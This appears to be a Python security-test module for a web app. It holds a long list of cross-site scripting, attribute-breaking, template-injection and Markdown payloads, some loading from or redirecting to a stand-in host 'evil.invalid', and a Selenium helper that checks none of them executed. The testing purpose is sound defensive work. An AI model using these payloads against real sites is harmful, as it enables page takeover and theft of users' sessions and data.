"""What strangers might write into titles and names to take over a page, and how to see that they did not."""

import json
from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any

from selenium import webdriver
from selenium.common.exceptions import NoAlertPresentException

HIT = "window.__hit=1"
FAR = "http://evil.invalid/"
PAYLOADS = (
    # elements
    f"<script>{HIT}</script>",
    f"<ScRiPt >{HIT}</sCrIpT>",
    f"</script><script>{HIT}</script>",
    f"</style><script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</textarea></select></option><script>{HIT}</script>",
    f"--><script>{HIT}</script><!--",
    "<!--",
    "<!-- <script>",
    "<![CDATA[<script>",
    f"]]><img src=x onerror={HIT}>",
    f"<script src={FAR}a.js></script>",
    f"<img src={FAR}a.png>",
    f"<img src=x onerror={HIT}>",
    f"<img/src/onerror={HIT}>",
    f"<<img src=x onerror={HIT}//",
    f"<svg onload={HIT}>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{HIT}><text>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={HIT}&gt;'>",
    f'<noscript><p title="</noscript><img src=x onerror={HIT}>">',
    f"<svg></p><style><a id='</style><img src=x onerror={HIT}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={HIT}>",
    "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
    f"<iframe src=javascript:parent.{HIT}></iframe>",
    f"<object data=javascript:{HIT}></object><embed src=javascript:{HIT}>",
    f"<base href={FAR}>",
    f'<meta http-equiv=refresh content="0;url={FAR}">',
    f"<link rel=stylesheet href={FAR}a.css>",
    f"<style>@import url({FAR}b.css);*{{background:url({FAR}c.png)}}</style>",
    f"<details open ontoggle={HIT}>x",
    f"<video><source onerror={HIT}></video>",
    f"<body onload={HIT}>",
    f"<input autofocus onfocus={HIT}>",
    f"<form action={FAR}><button>x</button></form>",
    "<plaintext>",
    "<xmp><template><title>",
    "<bdo dir=rtl><marquee>",
    # attributes
    f'" onmouseover="{HIT}',
    f"' onmouseover='{HIT}",
    f'"><img src=x onerror={HIT}>',
    f"'><img src=x onerror={HIT}>",
    f"` onmouseover=`{HIT}",
    f'x" autofocus onfocus="{HIT}" style="position:fixed;inset:0',
    f'" style="background:url({FAR}d.png)',
    # addresses
    f"javascript:{HIT}",
    f"JaVaScRiPt:{HIT}",
    f"java\tscript:{HIT}",
    f"\x01javascript:{HIT}",
    f"javascript://a.org/%0a{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    f"vbscript:{HIT}",
    "//evil.invalid/a.png",
    f'https://a.org/" onclick="{HIT}',
    f"https://a.org/'><script>{HIT}</script>",
    f"https://a.org\\@evil.invalid/{HIT}",
    # templates, entities, scripts and styles
    "{{ 7*7 }}{% raw %}{# x",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{0}{name}{body}{",
    f"&lt;img src=x onerror={HIT}&gt;",
    f"&#60;script&#62;{HIT}&#60;/script&#62;",
    f"&#x3c;script>{HIT}</script>",
    "&lt &amp;amp; &notin; &#0; &#x110000;",
    f"\\u003cscript\\u003e{HIT}",
    f"';{HIT};//",
    f'";{HIT};//',
    f"\\';{HIT};//",
    f"}}{HIT};{{",
    f"expression({HIT})",
    f"</svg><script>{HIT}</script>",
    # Markdown
    f"[x](javascript:{HIT})",
    f"![x]({FAR}e.png)",
    f"[x]: javascript:{HIT}",
    f"<javascript:{HIT}>",
    f"[![x]({FAR}f.png)](javascript:{HIT})",
    f"`<script>{HIT}</script>`` <b>",
    "a | b\\| c \\",
    "**b** _i_ ~~s~~ $m$ `c` <http://evil.invalid/>",
    f"```\n<script>{HIT}</script>",
    f"x\n\n<script>{HIT}</script>\n\n# y\n",
    # characters
    f"\u202e<script>{HIT}</script>\u2066\u2069\u2067",
    f"\uff1cscript\uff1e{HIT}\uff1c/script\uff1e",
    f"<scr\u200bipt>{HIT}</scr\u200bipt>",
    f"<scr\x00ipt>{HIT}</scr\x00ipt>",
    f"<img\x0csrc=x\x0bonerror={HIT}>",
    f"\x1b[31m<b>\x7f\x85\u2028\u2029{HIT}",
    f"\ufeff<script>{HIT}</script>\ufffe",
    "e\u0301\u0300" * 50,
    "\U0001f9dd\u200d\u2640\ufe0f<b>",
    f"<b>{'x' * 20_000}",
    "<" * 2000,
    '"' * 2000,
    "&" * 2000,
)
assert len(set(PAYLOADS)) == len(PAYLOADS) > 40


def harmless(payload: str) -> str:
    """A text that nothing is wrong with, for the same place: one per payload, in ASCII or not as it is."""
    word = "text" if "".join(payload.split()).isascii() else "f\u00fcr"
    return f"{word} {PAYLOADS.index(payload):03}"


class Page(HTMLParser):
    """A page of HTML: its elements with the names of their attributes, its addresses, its text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, ...]] = []
        self.addresses: list[str] = []
        self.text = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, *sorted(name for name, _ in attrs)))
        self.addresses += [value or "" for name, value in attrs if name in ("href", "src", "action", "srcdoc", "data")]

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.elements.append(("comment", data))


Dom = list[str]
DOM = "return [...document.querySelectorAll('*')].map(e => [e.tagName, ...e.getAttributeNames().sort()].join(' '))"


def dom(driver: webdriver.Chrome) -> Dom:
    """All elements that the browser made of the page, with the names of their attributes."""
    found: Dom = driver.execute_script(DOM)
    return found


def untouched(driver: webdriver.Chrome, address: str, look: Callable[[], Any]) -> Any:
    """What `look` finds on the page at `address`, which nobody has taken over.

    No script of a stranger has run, no dialog is open, and no request has left for anywhere but the page's own origin.
    """
    driver.get_log("performance")  # type: ignore[no-untyped-call]
    driver.get(address)
    found = look()
    try:
        raise AssertionError(driver.switch_to.alert.text)
    except NoAlertPresentException:
        pass
    assert driver.execute_script("return window.__hit") is None
    assert driver.current_url.split("#")[0].split("?")[0] == address.split("?")[0]
    messages = [json.loads(e["message"])["message"] for e in driver.get_log("performance")]  # type: ignore[no-untyped-call]
    own = address.split("?")[0]
    for sent in (m["params"] for m in messages if m["method"] == "Network.requestWillBeSent"):
        url = sent["request"]["url"]
        assert "evil.invalid" not in url
        if sent["documentURL"].startswith(own):  # and not one of the browser's own pages
            assert url.startswith((own, "data:"))
    return found
